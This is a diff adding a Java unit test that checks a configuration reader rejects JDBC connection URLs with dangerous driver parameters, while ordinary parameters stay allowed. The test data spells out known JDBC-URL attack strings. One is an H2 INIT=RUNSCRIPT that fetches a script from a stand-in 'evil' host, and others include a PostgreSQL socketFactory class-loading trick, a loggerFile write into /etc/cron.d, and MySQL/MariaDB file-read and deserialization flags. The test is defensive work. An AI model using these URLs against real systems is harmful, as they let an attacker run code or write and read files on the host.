@@ -259,6 +259,19 @@ class SqlMappingTest {
         assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                 CONNECTION.replace("url: jdbc:h2:mem:shop", "url: postgres://db/shop") + MINIMAL)))
                 .hasMessageContaining("shop.yml: connection.url: expected a JDBC URL");
+        for (String url : java.util.List.of("jdbc:h2:mem:shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+                "jdbc:postgresql://db/shop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+                "jdbc:postgresql://db/shop?loggerFile=/etc/cron.d/x", "jdbc:mariadb://db/shop?allowLoadLocalInfile=true",
+                "jdbc:mysql://db/shop?autoDeserialize=true&user=x")) {
+            assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
+                    CONNECTION.replace("url: jdbc:h2:mem:shop", "url: \"" + url + "\"") + MINIMAL)))
+                    .as(url).hasMessageContaining("shop.yml: connection.url: the parameter")
+                    .hasMessageContaining("makes the driver run code or read files");
+        }
+        // Ordinary parameters stay allowed.
+        assertThat(MappingReader.read(SystemDefinitions.parseSingle("shop.yml", CONNECTION.replace(
+                "url: jdbc:h2:mem:shop", "url: \"jdbc:postgresql://db/shop?sslmode=require&connectTimeout=5\"")
+                + MINIMAL)).connection().url()).endsWith("connectTimeout=5");
         assertThatThrownBy(() -> MappingReader.read(SystemDefinitions.parseSingle("shop.yml",
                 CONNECTION.replace("url: jdbc:h2:mem:shop", "url: jdbc:h2:mem:shop\n  schema: \"shop;\"") + MINIMAL)))
                 .hasMessageContaining("shop.yml: connection.schema: 'shop;' is not a plain SQL name");
